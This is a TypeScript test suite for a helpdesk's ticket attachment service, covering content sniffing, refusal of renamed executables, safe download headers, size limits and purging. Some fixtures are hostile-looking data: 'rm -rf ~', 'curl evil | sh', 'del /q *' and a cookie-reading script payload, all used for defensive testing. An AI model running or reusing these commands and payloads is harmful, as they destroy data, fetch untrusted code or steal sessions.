import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type TestContext, describeEachDb } from '../../test/harness.js';
import { blobPath, sniffAttachmentType } from './attachments.service.js';

/** Each run stores its files in a folder of its own, so what is on disk is this suite's doing. */
const DATA_DIR = mkdtempSync(join(tmpdir(), 'sbt-att-'));

/** A 1×1 PNG. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
/** The start of a Windows program (PE): `MZ`, the DOS stub, the PE header offset. */
function peProgram(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  return b;
}
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);

interface FilePart {
  name: string;
  data: Buffer;
  type?: string;
}

/** A multipart body with any number of file parts (binary-safe). */
function multipart(files: FilePart[]) {
  const boundary = `----sbt${randomUUID().replaceAll('-', '')}`;
  const chunks: Buffer[] = [];
  for (const f of files) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${f.name}"\r\nContent-Type: ${f.type ?? 'application/octet-stream'}\r\n\r\n`,
        'utf8',
      ),
      f.data,
      Buffer.from('\r\n', 'utf8'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`, 'utf8'));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function upload(c: TestContext, ticketId: string, files: FilePart[], token = c.tokens.agent) {
  const { payload, headers } = multipart(files);
  const res = await c.app.inject({
    method: 'POST',
    url: `/api/v1/tickets/${ticketId}/attachments`,
    payload,
    headers: { ...headers, authorization: `Bearer ${token}` },
  });
  return { status: res.statusCode, body: res.json(), text: res.body };
}

async function download(c: TestContext, url: string, token = c.tokens.viewer) {
  const res = await c.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
  return { status: res.statusCode, headers: res.headers, raw: res.rawPayload, text: res.body };
}

async function ticket(c: TestContext, token = c.tokens.agent, subject = 'With files'): Promise<string> {
  const r = await c.api('POST', '/api/v1/tickets', { token, body: { subject } });
  expect(r.status, r.text).toBe(201);
  return r.body.data.id;
}

const list = async (c: TestContext, ticketId: string, token = c.tokens.agent) =>
  (await c.api('GET', `/api/v1/tickets/${ticketId}/attachments`, { token })).body.data as Att[];
type Att = { id: string; filename: string; content_type: string; size: number; message_id: string | null; internal: boolean; created_at: string };
const storedRows = (c: TestContext, sha256: string) => c.deps.db.selectFrom('stored_files').select('sha256').where('sha256', '=', sha256).execute();
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const tmpFiles = () => (existsSync(join(DATA_DIR, 'files', 'tmp')) ? readdirSync(join(DATA_DIR, 'files', 'tmp')) : []);

describe('sniffAttachmentType', () => {
  it('types files by their bytes and refuses what runs code, whatever the name', async () => {
    expect(await sniffAttachmentType(PNG, 'photo.txt')).toBe('image/png');
    expect(await sniffAttachmentType(Buffer.from('%PDF-1.7\n1 0 obj\n'), 'x.bin')).toBe('application/pdf');
    expect(await sniffAttachmentType(Buffer.from('hello, world\nsecond line'), 'notes')).toBe('text/plain');
    expect(await sniffAttachmentType(Buffer.from('<!DOCTYPE html><html><script>x</script>'), 'a.png')).toBe('text/html');
    expect(await sniffAttachmentType(Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'a.png')).toBe('image/svg+xml');
    expect(await sniffAttachmentType(Buffer.from([0, 1, 2, 3, 0xff, 0xfe]), 'a.txt')).toBe('application/octet-stream');
    for (const [bytes, name] of [
      [peProgram(), 'invoice.pdf'],
      [ELF, 'photo.jpg'],
      [Buffer.from('#!/bin/sh\nrm -rf ~\n'), 'report.txt'],
      [Buffer.from('\ufeff#!/usr/bin/env python\n'), 'data.csv'],
      [Buffer.from('@echo off\r\ndel /q *\r\n'), 'readme.txt'],
      [Buffer.from('harmless text'), 'run.bat'],
      [Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34, 0, 0]), 'Main.txt'],
    ] as const)
      await expect(sniffAttachmentType(bytes, name), name).rejects.toMatchObject({ status: 415, code: 'attachment_type_refused' });
  });
});

describeEachDb(
  'ticket attachments',
  (ctx) => {
    describe('POST /api/v1/tickets/:id/attachments', () => {
      it('round trip: uploads typed by content, downloaded byte for byte as attachments with nosniff and a closed CSP', async () => {
        const c = ctx();
        const id = await ticket(c);
        const text = Buffer.from(`Order 42 — résumé ${randomUUID()}\n`, 'utf8');
        const up = await upload(c, id, [
          { name: 'screenshot.dat', data: PNG, type: 'text/plain' },
          { name: 'notes.txt', data: text },
        ]);
        expect(up.status, up.text).toBe(201);
        const [png, txt] = up.body.data as Att[];
        expect(png).toMatchObject({
          filename: 'screenshot.dat',
          content_type: 'image/png',
          size: PNG.length,
          message_id: null,
          internal: false,
          ticket_id: id,
        });
        expect(txt).toMatchObject({ filename: 'notes.txt', content_type: 'text/plain', size: text.length });
        expect((await list(c, id, c.tokens.viewer)).map((a) => a.id)).toEqual([png.id, txt.id]);

        const d = await download(c, `/api/v1/tickets/${id}/attachments/${txt.id}`);
        expect(d.status).toBe(200);
        expect(Buffer.compare(d.raw, text)).toBe(0);
        expect(d.headers['content-type']).toMatch(/^text\/plain/);
        expect(d.headers['content-disposition']).toMatch(/^attachment; filename="notes.txt"/);
        expect(d.headers['x-content-type-options']).toBe('nosniff');
        expect(d.headers['content-security-policy']).toContain("default-src 'none'");
        expect(d.headers['content-security-policy']).toContain('sandbox');
        const p = await download(c, `/api/v1/tickets/${id}/attachments/${png.id}`);
        expect(Buffer.compare(p.raw, PNG)).toBe(0);
        expect(p.headers['content-disposition']).toMatch(/^attachment;/);
        // Nothing is left half-written.
        expect(tmpFiles()).toEqual([]);
        // Readers only: no token is 401, an unknown attachment 404.
        expect((await c.api('GET', `/api/v1/tickets/${id}/attachments/${png.id}`)).status).toBe(401);
        expect((await download(c, `/api/v1/tickets/${id}/attachments/${randomUUID()}`)).status).toBe(404);
        // The viewer reads but may not upload.
        expect((await upload(c, id, [{ name: 'a.txt', data: text }], c.tokens.viewer)).status).toBe(403);
      });

      it('shows only raster images inline; HTML and SVG always download as opaque bytes', async () => {
        const c = ctx();
        const id = await ticket(c);
        const up = await upload(c, id, [
          { name: 'pic.png', data: PNG },
          { name: 'pic.svg', data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') },
          { name: 'page.png', data: Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>') },
          { name: 'doc.txt', data: Buffer.from('plain') },
        ]);
        expect(up.status, up.text).toBe(201);
        const [png, svg, html, txt] = up.body.data as Att[];
        expect([svg.content_type, html.content_type]).toEqual(['image/svg+xml', 'text/html']);
        const inline = await download(c, `/api/v1/tickets/${id}/attachments/${png.id}?inline=1`);
        expect(inline.headers['content-disposition']).toMatch(/^inline;/);
        expect(inline.headers['content-type']).toBe('image/png');
        for (const a of [svg, html, txt]) {
          const r = await download(c, `/api/v1/tickets/${id}/attachments/${a.id}?inline=1`);
          expect(r.status).toBe(200);
          expect(r.headers['content-disposition'], a.filename).toMatch(/^attachment;/);
          expect(r.headers['x-content-type-options']).toBe('nosniff');
        }
        for (const a of [svg, html])
          expect((await download(c, `/api/v1/tickets/${id}/attachments/${a.id}?inline=1`)).headers['content-type']).toBe('application/octet-stream');
      });

      it("refuses files over the tenant's max_attachment_mb with 413, storing none of the upload", async () => {
        const c = ctx();
        const id = await ticket(c);
        expect((await c.api('PATCH', '/api/v1/tenant', { token: c.tokens.tenant_admin, body: { settings: { max_attachment_mb: 101 } } })).status).toBe(400);
        const set = await c.api('PATCH', '/api/v1/tenant', { token: c.tokens.tenant_admin, body: { settings: { max_attachment_mb: 1 } } });
        expect(set.status, set.text).toBe(200);
        expect(set.body.data.settings.max_attachment_mb).toBe(1);
        try {
          const big = randomBytes(1024 * 1024 + 10);
          const r = await upload(c, id, [
            { name: 'small.txt', data: Buffer.from('fits') },
            { name: 'big.bin', data: big },
          ]);
          expect(r.status, r.text).toBe(413);
          expect(r.body).toMatchObject({ code: 'attachment_too_large' });
          expect(r.body.detail).toContain('1 MB');
          expect(await list(c, id)).toEqual([]);
          expect(await storedRows(c, sha(big))).toEqual([]);
          expect(existsSync(blobPath(DATA_DIR, sha(big)))).toBe(false);
          expect(tmpFiles()).toEqual([]);
          // Exactly the limit is fine.
          const ok = await upload(c, id, [{ name: 'limit.bin', data: randomBytes(1024 * 1024) }]);
          expect(ok.status, ok.text).toBe(201);
        } finally {
          await c.api('PATCH', '/api/v1/tenant', { token: c.tokens.tenant_admin, body: { settings: { max_attachment_mb: 20 } } });
        }
        // Other tenants keep the default.
        expect((await c.api('GET', '/api/v1/tenant', { token: c.other.token })).body.data.settings.max_attachment_mb).toBe(20);
      });

      it('refuses a renamed program or script with 415, and the rest of that upload with it', async () => {
        const c = ctx();
        const id = await ticket(c);
        const good = Buffer.from(`fine ${randomUUID()}`);
        for (const bad of [
          { name: 'invoice.pdf', data: peProgram(), type: 'application/pdf' },
          { name: 'photo.jpg', data: ELF, type: 'image/jpeg' },
          { name: 'report.txt', data: Buffer.from('#!/bin/bash\ncurl evil | sh\n') },
          { name: 'setup.exe', data: Buffer.from('just text') },
        ]) {
          const r = await upload(c, id, [{ name: 'ok.txt', data: good }, bad]);
          expect(r.status, `${bad.name}: ${r.text}`).toBe(415);
          expect(r.body.code).toBe('attachment_type_refused');
        }
        expect(await list(c, id)).toEqual([]);
        expect(await storedRows(c, sha(peProgram()))).toEqual([]);
        expect(existsSync(blobPath(DATA_DIR, sha(peProgram())))).toBe(false);
        expect(tmpFiles()).toEqual([]);
        // Not multipart, no file, an empty file: 4xx too.
        expect((await c.api('POST', `/api/v1/tickets/${id}/attachments`, { token: c.tokens.agent, body: { file: 'x' } })).status).toBe(415);
        expect((await upload(c, id, [])).status).toBe(400);
        expect((await upload(c, id, [{ name: 'empty.txt', data: Buffer.alloc(0) }])).status).toBe(400);
      });

      it('stores the same bytes once on disk, whichever ticket or tenant uploads them', async () => {
        const c = ctx();
        const data = Buffer.from(`shared contract ${randomUUID()}`);
        const a = await ticket(c);
        const b = await ticket(c);
        const beta = await ticket(c, c.other.token);
        for (const [t, token] of [
          [a, c.tokens.agent],
          [a, c.tokens.agent],
          [b, c.tokens.agent],
          [beta, c.other.token],
        ] as const)
          expect((await upload(c, t, [{ name: 'contract.txt', data }], token)).status).toBe(201);
        const hash = sha(data);
        const rows = await c.deps.db.selectFrom('ticket_attachments').select(['tenant_id', 'sha256']).where('sha256', '=', hash).execute();
        expect(rows).toHaveLength(4);
        expect(await storedRows(c, hash)).toHaveLength(1);
        expect(readdirSync(join(DATA_DIR, 'files', hash.slice(0, 2))).filter((f) => f.startsWith(hash))).toEqual([hash]);
      });
    });

    describe('GET /api/v1/tickets/:id/attachments/:attachment_id', () => {
      it("is 404 for another tenant's attachment and under another ticket", async () => {
        const c = ctx();
        const id = await ticket(c);
        const other = await ticket(c);
        const att = (await upload(c, id, [{ name: 'secret.txt', data: Buffer.from('demo secret') }])).body.data[0] as Att;
        const betaTicket = await ticket(c, c.other.token);
        for (const url of [
          `/api/v1/tickets/${id}/attachments/${att.id}`,
          `/api/v1/tickets/${betaTicket}/attachments/${att.id}`,
          `/api/v1/tickets/${id}/attachments`,
        ]) {
          const r = await download(c, url, c.other.token);
          expect(r.status, url).toBe(404);
          expect(r.text).not.toContain('demo secret');
        }
        expect((await download(c, `/api/v1/tickets/${other}/attachments/${att.id}`)).status).toBe(404);
        expect((await download(c, `/api/v1/tickets/${id}/attachments/${att.id}`)).status).toBe(200);
        // A trashed ticket's files are not served either.
        expect((await c.api('DELETE', `/api/v1/tickets/${id}`, { token: c.tokens.agent })).status).toBe(204);
        expect((await download(c, `/api/v1/tickets/${id}/attachments/${att.id}`)).status).toBe(404);
      });
    });

    describe('attachments on messages', () => {
      it("an internal note's attachment is shown only with the note, flagged internal, and cannot be sent again", async () => {
        const c = ctx();
        const id = await ticket(c);
        const [noteFile, replyFile] = (
          await upload(c, id, [
            { name: 'internal-log.txt', data: Buffer.from('stack trace') },
            { name: 'guide.png', data: PNG },
          ])
        ).body.data as Att[];
        const note = await c.api('POST', `/api/v1/tickets/${id}/messages`, {
          token: c.tokens.agent,
          body: { body: 'See log', internal: true, attachment_ids: [noteFile.id] },
        });
        expect(note.status, note.text).toBe(201);
        expect(note.body.data.attachments).toEqual([
          { id: noteFile.id, filename: 'internal-log.txt', content_type: 'text/plain', size: 11, created_at: noteFile.created_at },
        ]);
        // Sending the note's file with a public reply is refused, and the reply is not written.
        const leak = await c.api('POST', `/api/v1/tickets/${id}/messages`, { token: c.tokens.agent, body: { body: 'Here', attachment_ids: [noteFile.id] } });
        expect(leak.status).toBe(400);
        expect(leak.body.errors[0]).toMatchObject({ field: 'attachment_ids' });
        const reply = await c.api('POST', `/api/v1/tickets/${id}/messages`, {
          token: c.tokens.agent,
          body: { body: 'Try this', attachment_ids: [replyFile.id] },
        });
        expect(reply.status, reply.text).toBe(201);
        const thread = (await c.api('GET', `/api/v1/tickets/${id}/messages`, { token: c.tokens.viewer })).body.data as {
          body: string;
          internal: boolean;
          attachments: { id: string }[];
        }[];
        expect(thread.map((m) => [m.body, m.internal, m.attachments.map((a) => a.id)])).toEqual([
          ['See log', true, [noteFile.id]],
          ['Try this', false, [replyFile.id]],
        ]);
        const all = await list(c, id);
        expect(all.map((a) => [a.id, a.message_id, a.internal])).toEqual([
          [noteFile.id, note.body.data.id, true],
          [replyFile.id, reply.body.data.id, false],
        ]);
        // Editing the note keeps its attachment.
        const edited = await c.api('PATCH', `/api/v1/tickets/${id}/messages/${note.body.data.id}`, {
          token: c.tokens.agent,
          body: { body: 'See log (edited)' },
        });
        expect(edited.body.data.attachments.map((a: { id: string }) => a.id)).toEqual([noteFile.id]);
        // Sent files stay with their message; unsent ones can be discarded.
        expect((await c.api('DELETE', `/api/v1/tickets/${id}/attachments/${noteFile.id}`, { token: c.tokens.agent })).status).toBe(409);
      });

      it("refuses unknown, foreign and other tickets' attachment ids, writing no message", async () => {
        const c = ctx();
        const id = await ticket(c);
        const other = await ticket(c);
        const otherFile = (await upload(c, other, [{ name: 'o.txt', data: Buffer.from('other') }])).body.data[0] as Att;
        const betaTicket = await ticket(c, c.other.token);
        const betaFile = (await upload(c, betaTicket, [{ name: 'b.txt', data: Buffer.from('beta') }], c.other.token)).body.data[0] as Att;
        for (const ids of [[randomUUID()], [otherFile.id], [betaFile.id]]) {
          const r = await c.api('POST', `/api/v1/tickets/${id}/messages`, { token: c.tokens.agent, body: { body: 'x', attachment_ids: ids } });
          expect(r.status, r.text).toBe(400);
          expect(r.body.errors.map((e: { field: string }) => e.field)).toEqual(['attachment_ids']);
        }
        expect((await c.api('GET', `/api/v1/tickets/${id}/messages`, { token: c.tokens.agent })).body.data).toEqual([]);
        expect((await list(c, other))[0].message_id).toBeNull();
      });

      it('discards an unsent upload and its file', async () => {
        const c = ctx();
        const id = await ticket(c);
        const data = Buffer.from(`draft ${randomUUID()}`);
        const att = (await upload(c, id, [{ name: 'draft.txt', data }])).body.data[0] as Att;
        expect(existsSync(blobPath(DATA_DIR, sha(data)))).toBe(true);
        expect((await c.api('DELETE', `/api/v1/tickets/${id}/attachments/${att.id}`, { token: c.tokens.viewer })).status).toBe(403);
        expect((await c.api('DELETE', `/api/v1/tickets/${id}/attachments/${att.id}`, { token: c.tokens.agent })).status).toBe(204);
        expect(await list(c, id)).toEqual([]);
        expect(existsSync(blobPath(DATA_DIR, sha(data)))).toBe(false);
      });
    });

    describe('DELETE /api/v1/tickets/:id/purge', () => {
      it('deletes a trashed ticket with its messages and attachments, and the files nothing else uses', async () => {
        const c = ctx();
        const id = await ticket(c);
        const keep = await ticket(c);
        const own = Buffer.from(`only here ${randomUUID()}`);
        const shared = Buffer.from(`also elsewhere ${randomUUID()}`);
        const files = (
          await upload(c, id, [
            { name: 'own.txt', data: own },
            { name: 'shared.txt', data: shared },
          ])
        ).body.data as Att[];
        expect((await upload(c, keep, [{ name: 'shared.txt', data: shared }])).status).toBe(201);
        const msg = await c.api('POST', `/api/v1/tickets/${id}/messages`, {
          token: c.tokens.agent,
          body: { body: 'note', internal: true, attachment_ids: [files[0].id] },
        });
        expect(msg.status).toBe(201);
        await c.api('PATCH', `/api/v1/tickets/${id}/messages/${msg.body.data.id}`, { token: c.tokens.agent, body: { body: 'note v2' } });
        await c.api('POST', `/api/v1/tickets/${id}/messages`, { token: c.tokens.agent, body: { body: 'reply', attachment_ids: [files[1].id] } });

        // Live tickets are not purged; agents may not purge; other tenants get 404.
        expect((await c.api('DELETE', `/api/v1/tickets/${id}/purge`, { token: c.tokens.tenant_admin })).status).toBe(409);
        expect((await c.api('DELETE', `/api/v1/tickets/${id}`, { token: c.tokens.agent })).status).toBe(204);
        expect((await c.api('DELETE', `/api/v1/tickets/${id}/purge`, { token: c.tokens.agent })).status).toBe(403);
        expect((await c.api('DELETE', `/api/v1/tickets/${id}/purge`, { token: c.other.token })).status).toBe(404);
        expect(existsSync(blobPath(DATA_DIR, sha(own)))).toBe(true);

        const r = await c.api('DELETE', `/api/v1/tickets/${id}/purge`, { token: c.tokens.tenant_admin });
        expect(r.status, r.text).toBe(204);
        const db = c.deps.db;
        expect(await db.selectFrom('tickets').select('id').where('id', '=', id).execute()).toEqual([]);
        expect(await db.selectFrom('ticket_messages').select('id').where('ticket_id', '=', id).execute()).toEqual([]);
        expect(await db.selectFrom('ticket_message_revisions').select('id').where('message_id', '=', msg.body.data.id).execute()).toEqual([]);
        expect(await db.selectFrom('ticket_attachments').select('id').where('ticket_id', '=', id).execute()).toEqual([]);
        expect(existsSync(blobPath(DATA_DIR, sha(own)))).toBe(false);
        expect(await storedRows(c, sha(own))).toEqual([]);
        // The other ticket's copy of the shared file is still there and downloads.
        expect(existsSync(blobPath(DATA_DIR, sha(shared)))).toBe(true);
        const kept = (await list(c, keep))[0];
        const d = await download(c, `/api/v1/tickets/${keep}/attachments/${kept.id}`);
        expect(Buffer.compare(d.raw, shared)).toBe(0);
        // Gone for good: not in the trash, not restorable, audited.
        expect(
          (await c.api('GET', `/api/v1/tickets?deleted=true&page_size=100`, { token: c.tokens.agent })).body.data.map((t: { id: string }) => t.id),
        ).not.toContain(id);
        expect((await c.api('POST', `/api/v1/tickets/${id}/restore`, { token: c.tokens.agent })).status).toBe(404);
        expect((await c.api('DELETE', `/api/v1/tickets/${id}/purge`, { token: c.tokens.tenant_admin })).status).toBe(404);
        const audit = await db.selectFrom('audit_log').select('action').where('entity_id', '=', id).where('action', '=', 'ticket.purged').execute();
        expect(audit).toHaveLength(1);
      });
    });
  },
  { config: { DATA_DIR } },
);
